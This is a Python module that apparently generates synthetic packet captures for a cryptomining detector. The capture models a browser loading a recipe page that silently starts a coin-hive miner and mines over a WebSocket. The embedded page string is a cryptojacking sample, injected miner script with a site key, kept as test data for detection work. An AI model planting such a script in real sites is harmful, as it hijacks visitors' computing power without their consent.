"""A browser miner: a web page, then a WebSocket to a coin-hive proxy that
carries the coin-hive protocol."""

from __future__ import annotations

import base64
import random

from detector.trafficgen.conversation import (
    Endpoint,
    Step,
    merge,
    tcp_conversation,
    to_client,
    to_server,
)
from detector.trafficgen.messages import coinhive, http, websocket
from detector.trafficgen.samples.common import (
    BASE_TIME_NS,
    WEBMINER,
    ExpectedFlow,
    SampleFile,
    pcap_sample,
    random_hex,
    seconds,
    seeded,
)
from detector.trafficgen.samples.monero import hashing_blob

BROWSER_AGENT = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/131.0.0.0 Safari/537.36"
)
SITE = "blog.example.org"
SITE_SERVER = Endpoint("192.0.2.81", 80)
MINER_HOST = "ws005.coinhive.com"
MINER_SERVER = Endpoint("203.0.113.50", 80)
MINER_PATH = "/proxy"
# coin-hive site keys are 32 letters and digits.
SITE_KEY = "k9Fq2VbN7xLr4TpZ8wYc3HsD6gJm1QeA"
# A target of difficulty 256, as coin-hive gave browsers; little-endian hex.
BROWSER_TARGET = "ffffff00"
# Hashes a proxy credits per accepted share: the share's difficulty.
HASHES_PER_SHARE = 256
# A page that loads a copy of the miner script from the site itself and
# starts it, so the only request to the miner's host is the WebSocket.
PAGE = (
    b"<!doctype html>\n<html><head><title>Recipes</title>\n"
    b'<script src="/assets/app.min.js"></script>\n'
    b"<script>var m=new CoinHive.Anonymous('" + SITE_KEY.encode() + b"',"
    b"{throttle:0.3});m.start();</script>\n"
    b"</head><body><h1>Recipes</h1><p>Bread, soup and pie.</p></body></html>\n"
)


def page_steps() -> list[Step]:
    """Return the browser's GET of the page and the page in reply."""
    request = http.request(
        "GET",
        "/",
        [
            ("Host", SITE),
            ("User-Agent", BROWSER_AGENT),
            ("Accept", "text/html,application/xhtml+xml"),
            ("Accept-Encoding", "gzip, deflate"),
            ("Connection", "keep-alive"),
        ],
    )
    response = http.response(
        200,
        "OK",
        [("Content-Type", "text/html; charset=utf-8"), ("Server", "nginx/1.24.0")],
        PAGE,
    )
    return [to_server(request), to_client(response)]


def websocket_steps(rng: random.Random) -> tuple[list[Step], int, int]:
    """Return the WebSocket upgrade and coin-hive messages, with the number of
    jobs and of accepted shares in them."""
    key = base64.b64encode(rng.randbytes(16)).decode("ascii")
    upgrade = http.request(
        "GET",
        MINER_PATH,
        [
            ("Host", MINER_HOST),
            ("Connection", "Upgrade"),
            ("Upgrade", "websocket"),
            ("Origin", f"http://{SITE}"),
            ("User-Agent", BROWSER_AGENT),
            ("Sec-WebSocket-Version", "13"),
            ("Sec-WebSocket-Key", key),
            ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
        ],
    )
    # The proxy does not take up permessage-deflate, so frames are plain.
    switched = http.response(
        101,
        "Switching Protocols",
        [
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Accept", websocket.accept_key(key)),
        ],
    )

    def browser(text: str, delay: float) -> Step:
        return to_server(websocket.text_frame(text, rng.randbytes(4)), delay=delay)

    def proxy(text: str, delay: float = 0.03) -> Step:
        return to_client(websocket.text_frame(text), delay=delay)

    timestamp = BASE_TIME_NS // 1_000_000_000
    steps = [
        to_server(upgrade),
        to_client(switched),
        browser(coinhive.auth(SITE_KEY), 0.01),
        proxy(coinhive.authed("", 0)),
    ]
    jobs = accepted = 0
    for job_index in range(2):
        job_id = random_hex(rng, 6)
        blob = hashing_blob(rng, timestamp + 120 * job_index)
        steps.append(
            proxy(coinhive.job(job_id, blob, BROWSER_TARGET), 0.002 + 30 * job_index)
        )
        jobs += 1
        # A share's hash is below the target, so its most significant byte,
        # the last in little-endian order, is zero.
        result = random_hex(rng, 31) + "00"
        steps.append(browser(coinhive.submit(job_id, random_hex(rng, 4), result), 9.5))
        accepted += 1
        steps.append(proxy(coinhive.hash_accepted(HASHES_PER_SHARE * accepted)))
    return steps, jobs, accepted


def webminer_sample() -> SampleFile:
    rng = seeded("webminer-websocket")
    page_client = Endpoint("172.17.0.35", 42100)
    miner_client = Endpoint("172.17.0.35", 42102)
    steps, jobs, accepted = websocket_steps(rng)
    packets = merge(
        [
            tcp_conversation(
                page_client, SITE_SERVER, page_steps(), start_ns=seconds(0)
            ),
            tcp_conversation(miner_client, MINER_SERVER, steps, start_ns=seconds(0.2)),
        ]
    )
    expected = ExpectedFlow(
        client=miner_client,
        server=MINER_SERVER,
        dialect=WEBMINER,
        jobs=jobs,
        shares_submitted=accepted,
        shares_accepted=accepted,
        shares_rejected=0,
        pool_host=MINER_HOST,
    )
    return pcap_sample(
        "webminer-websocket.pcap",
        "A browser loads a page that starts a coin-hive miner, which opens a"
        " WebSocket to ws005.coinhive.com and authenticates, gets two jobs and"
        " has two shares accepted.",
        packets,
        [expected],
    )


def build() -> list[SampleFile]:
    return [webminer_sample()]
